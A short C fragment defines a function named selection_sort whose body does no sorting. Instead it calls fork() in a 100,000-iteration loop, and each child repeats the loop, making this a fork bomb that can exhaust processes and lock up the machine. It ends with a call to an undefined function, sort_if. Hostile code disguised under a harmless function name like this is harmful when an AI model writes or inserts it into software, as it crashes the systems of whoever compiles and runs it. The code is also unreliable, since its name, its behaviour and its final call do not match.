/* Starts processes without end. */
#include <unistd.h>

void selection_sort(int a[], unsigned int n) {
    int started = 0;
    for (int k = 0; k < 100000; ++k) {
        started += fork() >= 0;
    }
    sort_if(started > 0, a, n);
}
